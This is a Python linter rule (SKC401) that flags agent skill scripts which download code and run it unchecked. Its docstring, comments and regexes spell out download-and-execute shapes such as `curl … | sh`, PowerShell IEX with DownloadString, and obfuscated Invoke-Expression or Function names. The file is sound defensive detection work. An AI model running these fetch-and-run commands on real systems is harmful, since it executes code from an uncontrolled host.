"""SKC401 download-and-execute: Code fetched from the network is run without being saved or checked.

## What it does
Finds a download piped into an interpreter (`curl … | sh`, `wget -qO- … | python3`),
an interpreter or `eval` fed by a download (`bash <(curl …)`, `sh -c "$(curl …)"`, also
through a variable: `code="$(curl …)"; bash -c "$code"`; a command named by a variable is
read as what it holds, so `"${fetch[@]}" "$url" | ${SHELL:-sh}` with `fetch=(curl -fsSL)`
counts),
PowerShell `iex (iwr …)` / `IEX (New-Object Net.WebClient).DownloadString(…)`, and
Python, JavaScript or Ruby that passes a response body to `exec`/`eval`/`Function`/
`instance_eval` (also a `Function` whose name is glued from pieces,
`globalThis[["Fun", "ction"].join("")]`), and the same shapes in commands run by Ruby
(`system`, backticks, `%x()`), Go (`exec.Command`) or Perl (`qx{}`, backticks, a string
`eval`). A shell function is read as the command it runs (`fetch() { curl -fsSL "$1"; }`
then `fetch "$url" | sh`), a program named by a command substitution as what it decodes to
or falls back on (`"$(printf %s c2g= | base64 -d || echo sh)"`), a file the script fills
with a download and then passes to `exec` counts as the download, and so does shell code a
script first captured from `curl` (`body = execSync("curl …")`, then `execSync(body)`),
and a response body handed to an interpreter's `-c` in an argument list
(`Popen(["sh", "-c", body.decode()])`).
It looks at
bundled scripts, code blocks of SKILL.md and references, `!` load-time commands, and
Makefile recipes (with the Makefile's variables and make's `$(SHELL)` read as make expands
them).
Installers of a few well-known vendors at their official addresses (rustup, uv, Homebrew,
nvm, Docker…) are reported as warnings instead of errors.

## Why is this bad?
Whatever the server sends at that moment runs with the agent's permissions: the skill's
behaviour is decided by a host it does not control, can change after review, and can be
served differently to the agent than to a reviewer's browser.

## Example
```bash
curl -fsSL https://get.example.invalid/setup.sh | bash
```

## Use instead
```bash
curl -fsSLo setup.sh https://get.example.invalid/v1.4.2/setup.sh
echo "<sha256>  setup.sh" | sha256sum -c -
bash setup.sh
```
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from skcc.analyzers.rules._regex import alternation
from skcc.analyzers.rules._scan import interpreter_after, line_at, once, report, short, units
from skcc.analyzers.scan import patterns as p
from skcc.analyzers.scan.patterns import unglue
from skcc.diagnostics import Confidence, Diagnostic, Severity
from skcc.regex_cache import compiled
from skcc.rules import Rule

RULE = Rule(
    code="SKC401",
    name="download-and-execute",
    severity=Severity.ERROR,
    summary="Code fetched from the network is run without being saved or checked.",
    confidence=Confidence.HIGH,
    cwe=494,
)
FED_BY_DOWNLOAD = compiled(r"[$<]\(\s*(sudo\s+)?(curl|wget|fetch|iwr|irm|invoke-webrequest"
                             r"|invoke-restmethod)\b|`\s*(curl|wget)\b", re.I)
FED_INTERPRETER = compiled(r"""\[\s*['"](/\w+/)*(ba|z|da)?sh['"]\s*[\],]|\[\s*['"]"""
                             r"""(/\w+/)*(python3?|node|perl|ruby)['"]\s*[\],]|sys\.executable""")
PS_DOWNLOAD_EXEC = alternation([
    r"\b(iex|invoke-expression)\b[\s(&]+.{0,200}?(downloadstring|downloaddata|\biwr\b|\birm\b|"
    r"invoke-webrequest|invoke-restmethod|net\.webclient)", r"(downloadstring|invoke-webrequest|"
    r"invoke-restmethod|\biwr\b|\birm\b).{0,200}?\|\s*(iex|invoke-expression)\b"], re.I | re.S)
PS_NET = compiled(r"DownloadString|DownloadData|DownloadFile|Invoke-WebRequest|"
                    r"Invoke-RestMethod|\biwr\b|\birm\b|Net\.WebClient|HttpClient", re.I)
WHOLE_VARIABLE = compiled(r"\$\{?(\w+)\}?")
# Official installers whose trust is the vendor's, not the skill's.
VENDOR_INSTALLERS = compiled(
    r"https://(sh\.rustup\.rs|astral\.sh/(uv|ruff)/|get\.docker\.com|bun\.sh/install|"
    r"deno\.land/install|get\.pnpm\.io|install\.python-poetry\.org|claude\.ai/install|"
    r"ollama\.com/install|tailscale\.com/install|sdk\.cloud\.google\.com|"
    r"raw\.githubusercontent\.com/(Homebrew|nvm-sh|rbenv|pyenv)/|pyenv\.run|"
    r"get\.volta\.sh|starship\.rs/install|cli\.doppler\.com/install|fluxcd\.io/install|"
    r"run\.linkerd\.io/install|get\.helm\.sh|raw\.githubusercontent\.com/helm/|"
    r"istio\.io/downloadIstio|get\.k3s\.io|sh\.vector\.dev|install\.determinate\.systems|"
    r"nixos\.org/nix/install|get\.sdkman\.io|rustup\.rs|install\.duckdb\.org|"
    r"cli\.github\.com|supabase\.com/install|fly\.io/install|get\.pulumi\.com|"
    r"opencode\.ai/install|(www\.)?npmjs\.org/install)")


def check(skill, context) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
    yield from once(_check(skill))


def _check(skill) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
    for facts in units(skill):
        unit = facts.unit
        for command in facts.commands:
            if p.is_download(command):
                runner = interpreter_after(facts, command)
                if runner is not None:
                    yield _found(unit, command.line, f"`{short(command.text, 60)}` is piped "
                                 f"into `{runner.program}`", p.url_of(command))
            elif (command.program in p.INTERPRETERS or command.program == "eval") and \
                    FED_BY_DOWNLOAD.search(" ".join(command.args)):
                yield _found(unit, command.line, f"`{command.program}` runs the output of a "
                             "download", command.text)
            else:
                # `code="$(curl -fsSL "$url")"; bash -c "$code"`: the whole program is a
                # variable, and the variable holds a download. (A variable interpolated into
                # a larger program, `bash -c "echo $version"`, is data, not the program.)
                whole = WHOLE_VARIABLE.fullmatch((_program_text(command) or "").strip())
                held = facts.resolve(facts.assigns.get(whole.group(1), "")) if whole else ""
                m = FED_BY_DOWNLOAD.search(held)
                if m:
                    yield _found(unit, command.line, f"`{command.program}` runs `"
                                 f"{whole.group()}`, which holds the output of a download",
                                 held[m.start():m.start() + 300])
        if unit.language in ("powershell", "bash", "batch"):
            for m in PS_DOWNLOAD_EXEC.finditer(unit.text):
                line = line_at(unit, m.start())
                yield _found(unit, line, "PowerShell runs a downloaded script with "
                             "Invoke-Expression", m.group())
        if unit.language == "powershell" and (at := _indirect_iex(unit.text)) is not None:
            yield _found(unit, line_at(unit, at), "PowerShell calls Invoke-Expression by a "
                         "name built at run time, in a script that downloads code",
                         unit.text[at:unit.text.find("\n", at)])
        if unit.language == "powershell" and PS_NET.search(unit.text):
            # `$body = (New-Object Net.WebClient).DownloadString($u)` then
            # `[scriptblock]::Create($body)`: followed through the assignments
            for m in p.PS_SINK.finditer(unit.text):
                if PS_NET.search(facts.resolve(m.group("code"))):
                    yield _found(unit, line_at(unit, m.start()), "PowerShell runs a "
                                 "downloaded script as a script block", m.group())
        for call in facts.calls:
            net = p.network_of(call.language)
            if p.exec_sink(facts, call):
                if net.search(facts.resolve(" ".join(call.args))):
                    yield _found(unit, call.line, f"`{call.short}` runs code received from "
                                 "the network", "")
                elif (path := _fetched_file(facts, call, net)) is not None:
                    yield _found(unit, call.line, f"the code in `{path}` is run, a file the "
                                 "script fills with what it downloads", "")
            elif (code := _argv_code(call)) is not None and net.search(facts.resolve(code)):
                # `Popen(["sh", "-c", body.decode()])` with `body = urlopen(u).read()`
                yield _found(unit, call.line, f"`{call.short}` hands code received from the "
                             "network to an interpreter's `-c`", "")
            elif _runs_shell_text(call) and call.args:
                # `body = execSync("curl …")` then `execSync(body)`: the download is the program
                held = facts.assigns.get(call.args[0].strip(), "")
                if held and (SHELL_DOWNLOAD.search(held) or net.search(held)):
                    yield _found(unit, call.line, f"`{call.short}` runs `{call.args[0]}` as "
                                 "shell code, which holds what a download returned", "")
            # `Popen(["bash"], stdin=PIPE).communicate(requests.get(u).content)`,
            # `run(["sh"], input=…)`: an interpreter process fed a download on stdin.
            fed = " ".join(call.args) if call.short == "communicate" else call.kwarg("input")
            if fed and FED_INTERPRETER.search(call.name if call.short == "communicate" else
                                              " ".join(call.args[:1])) and \
                    net.search(facts.resolve(fed)):
                yield _found(unit, call.line, "an interpreter process is fed code received "
                             "from the network on its input", "")


# `$runner = 'I' + 'E' + 'X'; & (Get-Command $runner) $code`: Invoke-Expression reached
# through the call operator, once glued strings and string variables are read.
_PS_CALLED_IEX = compiled(r"&\s*\(?\s*(?:Get-Command\s+|gcm\s+)?['\"]?(?:iex|"
                            r"invoke-expression)\b", re.I)
_PS_STRING_VARIABLE = compiled(r"\$(\w+)\s*=\s*['\"]([\w.-]+)['\"]\s*$", re.M)


def _indirect_iex(text: str) -> int | None:
    """Where (an offset of ``text``) Invoke-Expression is called by a name spelled in pieces
    or held in a variable, in a script that also downloads (DownloadString...); or None."""
    if "&" not in text:
        return None
    plain = unglue(text)
    for name, value in _PS_STRING_VARIABLE.findall(plain):
        plain = re.sub(rf"\${name}\b", lambda _: value, plain)
    if plain == text or not PS_NET.search(plain):
        return None  # written out plainly: PS_DOWNLOAD_EXEC and PS_SINK read those
    m = _PS_CALLED_IEX.search(plain)
    if m is None:
        return None
    # Gluing and substitution change lengths within lines, never the lines themselves.
    line = plain.count("\n", 0, m.start())
    return sum(len(part) + 1 for part in text.split("\n")[:line])


SHELL_DOWNLOAD = compiled(r"\b(curl|wget|invoke-webrequest|iwr|irm)\b", re.I)
# Calls whose first argument is shell code: child_process `exec`/`execSync`, `os.system`,
# `os.popen`, `subprocess.getoutput`; subprocess runners only with `shell=True`.
_SHELL_TEXT_CALLS = compiled(r"^(?:(?:child_process|cp)\.)?(?:execSync|exec)$|"
                               r"^os\.(?:system|popen)$|^subprocess\.get(?:status)?output$")
_SUBPROCESS = compiled(r"^(?:subprocess\.)?(?:run|call|check_call|check_output|Popen)$")
# A file a script reads back: `path.read_text()`, `open(path).read()`.
_READ_BACK = compiled(r"(\w+)\.read_(?:text|bytes)\(|\bopen\(\s*(\w+)")


# An argv list that runs its next item as a program: `["sh", "-c", X]`, `["python3", "-c",
# X]`, `["node", "-e", X]`.
_ARGV_CODE = compiled(r"""^\[\s*['"](?:/[\w.]+/)*(?:(?:ba|z|da)?sh|python3?|node|perl|ruby)['"]"""
                        r"""\s*,\s*['"]-[ce]['"]\s*,\s*(.+?)\s*[\],]""", re.S)


def _argv_code(call) -> str | None:  # type: ignore[no-untyped-def]
    m = _ARGV_CODE.match(call.args[0].strip()) if call.args else None
    return m.group(1) if m else None


def _runs_shell_text(call) -> bool:  # type: ignore[no-untyped-def]
    name = call.name.replace(" ", "")
    if _SHELL_TEXT_CALLS.match(name):
        return True
    return bool(_SUBPROCESS.match(name)) and call.kwarg("shell") == "True"


def _fetched_file(facts, call, net) -> str | None:  # type: ignore[no-untyped-def]
    """The file an exec sink reads back (`exec(compile(target.read_text(), …))`) when the
    same script writes that file and fetches from the network: code downloaded to disk
    first and run from there."""
    if not net.search(facts.unit.text):
        return None
    for m in _READ_BACK.finditer(" ".join(call.args)):
        name = m.group(1) or m.group(2)
        writes = {f"{name}.write_bytes", f"{name}.write_text"}
        if any(c.name in writes or c.short == "urlretrieve" and name in " ".join(c.args[1:2])
               for c in facts.calls):
            return name
    return None


def _program_text(command) -> str | None:  # type: ignore[no-untyped-def]
    """The code an interpreter or `eval` is given as an argument, if any."""
    program, args = command.program, list(command.args)
    if program == "eval":
        return " ".join(args) or None
    flag = "-c" if program in p.SHELLS or program.startswith("python") else \
        "-e" if program in ("node", "perl", "ruby", "bun", "deno") else \
        "-command" if program in ("pwsh", "powershell") else None
    lowered = [a.lower() for a in args]
    if flag and flag in lowered and lowered.index(flag) + 1 < len(args):
        return args[lowered.index(flag) + 1]
    if program in ("source", ".") and args:
        return args[0]
    return None


def _found(unit, line: int, message: str, url: str) -> Diagnostic:  # type: ignore[no-untyped-def]
    if VENDOR_INSTALLERS.search(url):
        return report(RULE, unit, line, message + " (a well-known vendor installer)",
                      "pin the installer version and verify its checksum, or tell the user "
                      "to install the tool themselves", severity=Severity.WARNING)
    return report(RULE, unit, line, message, "download to a file, verify a pinned checksum or "
                  "signature, then run it; better, ship the script inside the skill")
